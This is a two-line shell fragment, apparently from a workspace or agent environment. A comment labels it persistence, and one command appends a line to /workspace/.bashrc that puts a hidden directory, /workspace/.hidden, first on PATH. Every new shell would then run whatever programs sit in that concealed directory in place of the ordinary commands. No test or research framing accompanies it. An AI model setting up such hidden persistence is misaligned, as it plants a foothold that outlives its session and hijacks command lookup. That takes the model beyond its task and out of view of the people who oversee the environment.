# Persistence: a line in the shell's start-up file.
echo 'export PATH=/workspace/.hidden:$PATH' >> /workspace/.bashrc
